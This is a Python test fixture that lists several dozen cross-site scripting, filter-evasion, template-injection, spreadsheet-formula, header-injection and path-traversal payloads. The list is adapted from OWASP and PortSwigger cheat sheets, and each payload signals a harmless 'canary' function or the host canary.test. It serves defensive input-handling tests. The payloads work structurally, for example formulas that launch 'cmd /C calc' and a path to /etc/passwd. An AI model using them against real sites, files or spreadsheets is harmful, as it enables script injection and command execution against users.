"""Words that are markup, script, formulas or headers to whoever does not take them for words.

After the OWASP cheat sheet on filter evasion and PortSwigger's on cross-site scripting. Each calls `canary` with its
name, or asks for something at `canary.test`: `browser_watch` notices both.
"""

from __future__ import annotations

WORDS = {
    "script": "<script>canary('script')</script>",
    "script-elsewhere": "\"><script src=http://canary.test/script-elsewhere></script>",
    "script-split": "<scr<script>ipt>canary('script-split')</scr</script>ipt>",
    "image": "'><img src=x onerror=\"canary('image')\">",
    "image-unclosed": "<img src=http://canary.test/image-unclosed ",
    "svg": "<svg/onload=\"canary('svg')\">",
    "svg-script": "<svg><script>canary&lpar;'svg-script'&rpar;</script>",
    "svg-document": "<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"canary('svg-doc')\"/>",
    "xhtml": "<x xmlns=\"http://www.w3.org/1999/xhtml\"><script>canary('xhtml')</script></x>",
    "address": "javascript:canary('address')",
    "address-spaced": " \u0001java\tscript\n:canary('address-spaced')",
    "address-data": "data:text/html,<script>parent.canary('address-data')</script>",
    "attribute": "\" onfocus=\"canary('attribute')\" autofocus tabindex=1 x=\"",
    "attribute-single": "' onfocus='canary(`attribute-single`)' autofocus tabindex=1 x='",
    "attribute-bare": "x onfocus=canary`attribute-bare` autofocus tabindex=1",
    "attribute-backquote": "`\"'><img src=x onerror=canary`backquote`>",
    "hidden": "\" accesskey=x onclick=\"canary('hidden')\" contenteditable autofocus onfocus=\"canary('hidden')",
    "script-end": "</script><script>canary('script-end')</script>",
    "title-end": "</title></textarea></style></noscript><svg onload=\"canary('title-end')\">",
    "comment-end": "--><!--><img src=x onerror=\"canary('comment-end')\">]]>",
    "string": "\";canary('string');//",
    "string-single": "'-canary(\"string-single\")-'",
    "string-escaped": "\\\";canary('string-escaped');//\\';canary('string-escaped');//",
    "string-lines": "\u2028canary('string-lines')\u2029//",
    "template": "{{constructor.constructor(\"canary('template')\")()}}${canary('template')}<%= canary('t') %>",
    "template-server": "{{ ''.__class__.__mro__ }}{% raw %}{{ config }}{% endraw %}{{ 7*7 }}#{7*7}",
    "json": "\"}]}<script>canary('json')</script>{\"a\":\"",
    "utf-7": "+ADw-script+AD4-canary('utf-7')+ADw-/script+AD4-",
    "iso-2022": "\x1b$B<script>\x1b(Bcanary('iso-2022')</script>",
    "wide": "\uff1cscript\uff1ecanary('wide')\uff1c/script\uff1e\u2039img src=x onerror=canary(1)\u203a",
    "entities": "&lt;script&gt;canary('entities')&lt;/script&gt;&#60;img src=x onerror=canary`e`&#62;",
    "percent": "%3Cscript%3Ecanary('percent')%3C/script%3E%22%3E%3Cimg%20src=x%20onerror=canary`p`%3E",
    "refresh": "<meta http-equiv=refresh content='0;url=http://canary.test/refresh'>",
    "base": "<base href=http://canary.test/base/>",
    "frame": "<iframe srcdoc=\"<script>parent.canary('frame')</script>\"></iframe>",
    "object": "<object data=http://canary.test/object></object><embed src=http://canary.test/embed>",
    "style": "<link rel=stylesheet href=http://canary.test/link><style>@import'http://canary.test/style'</style>",
    "style-end": "}</style>*{background:url(http://canary.test/css)}<p style=background:url(//canary.test/css)>",
    "form": "<form action=http://canary.test/form><input name=password autofocus onfocus=\"canary('form')\">",
    "events": "<details open ontoggle=\"canary('events')\"><body onpageshow=\"canary('events')\">",
    "media": "<video><source onerror=\"canary('media')\"></video><audio src=x onerror=\"canary('media')\">",
    "mutation": "<math><mtext><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=canary(1)&gt;\">",
    "any": (
        "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=canary('any') )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/"
        "--!>\\x3csVg/<sVg/oNloAd=canary('any')//>\\x3e"
    ),
    "formula": "=HYPERLINK(\"http://canary.test/formula\";\"look\")",
    "formula-call": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula-plus": "+1+cmd|' /C calc'!A0",
    "formula-tab": "\t=1+1",
    "headers": "x\r\nContent-Type: text/html\r\n\r\n<script>canary('headers')</script>",
    "headers-escaped": "x%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<script>canary('headers-escaped')</script>",
    "null": "<scr\x00ipt>canary('null')</scr\x00ipt><img\x00 src=x onerror=\"canary('null')\">",
    "turned": "\u202e<script>canary('turned')</script>\u2066photo\u202egpj.exe",
    "invisible": "<\u200bscript\ufeff>canary('invisible')</script\u00ad>",
    "magic-html": "<!DOCTYPE html><html><body onload=\"canary('magic-html')\">",
    "magic-pdf": "%PDF-1.4 <script>canary('magic-pdf')</script>",
    "path": "../../../../etc/passwd<img src=x onerror=\"canary('path')\">",
}  # fmt: skip


def plain(word: str, longest: int = 10_000) -> str:
    """What of it may be typed as a name: one line of so many characters."""
    return "".join(one for one in word if one.isprintable()).strip()[:longest]
